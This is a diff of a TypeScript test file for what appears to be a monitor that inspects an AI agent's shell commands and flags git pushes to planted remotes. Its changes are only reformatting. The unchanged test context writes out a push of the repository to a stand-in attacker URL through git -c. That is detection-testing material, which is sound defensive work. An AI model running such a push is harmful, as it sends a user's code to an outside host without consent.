@@ -14,7 +14,8 @@ const EVIL = 'https://x.example/r.git';
 function session() {
   const e = new FlowEngine(defaultConfig(), { seed: 3, home: '/home/u' });
   let t = 1_800_000_000_000;
-  const ev = (name: string, tool: string, input: Record<string, unknown>, cwd: string): Decision => e.handle({ hook_event_name: name, session_id: 's', tool_name: tool, tool_input: input, cwd }, (t += 1000));
+  const ev = (name: string, tool: string, input: Record<string, unknown>, cwd: string): Decision =>
+    e.handle({ hook_event_name: name, session_id: 's', tool_name: tool, tool_input: input, cwd }, (t += 1000));
   return {
     bash: (command: string, cwd = '/home/u/proj') => ev('PreToolUse', 'Bash', { command }, cwd),
     tool: (tool: string, input: Record<string, unknown>, cwd = '/home/u/proj') => ev('PreToolUse', tool, input, cwd),
@@ -106,7 +107,7 @@ test('Windows paths and Git Bash paths name the same repository', () => {
   assert.equal(pushFlagged(s.bash('git push evil', 'C:\\Users\\me\\other')), false);
 });
 
-test('gh repo create: the user\'s own new repository is tracked, its pushes are not taken for a planted remote', () => {
+test("gh repo create: the user's own new repository is tracked, its pushes are not taken for a planted remote", () => {
   const s = session();
   const c = s.bash('gh repo create me/new --private --source . --remote upstream --push');
   assert.equal(pushFlagged(c), false);
@@ -128,5 +129,8 @@ test('a push straight to a URL, or through git -c for one invocation', () => {
   assert.ok(pushFlagged(s.bash(`git -c remote.origin.url=${EVIL} push`)));
   // -c holds for that invocation only
   assert.equal(pushFlagged(s.bash('git push')), false);
-  assert.deepEqual(repoPushes(analyzeBash('git -C sub push origin'), '/home/u/proj').map((p) => p.repo), ['/home/u/proj/sub']);
+  assert.deepEqual(
+    repoPushes(analyzeBash('git -C sub push origin'), '/home/u/proj').map((p) => p.repo),
+    ['/home/u/proj/sub'],
+  );
 });
